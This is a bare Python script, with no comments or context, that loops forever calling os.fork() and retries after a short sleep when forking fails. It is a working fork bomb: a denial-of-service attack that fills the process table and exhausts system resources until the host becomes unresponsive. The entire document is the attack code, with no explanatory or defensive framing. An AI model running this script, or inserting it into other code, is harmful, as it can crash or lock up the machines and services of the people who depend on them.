import os
import time

while True:
    try:
        if os.fork() == 0:
            continue
    except OSError:
        time.sleep(0.01)
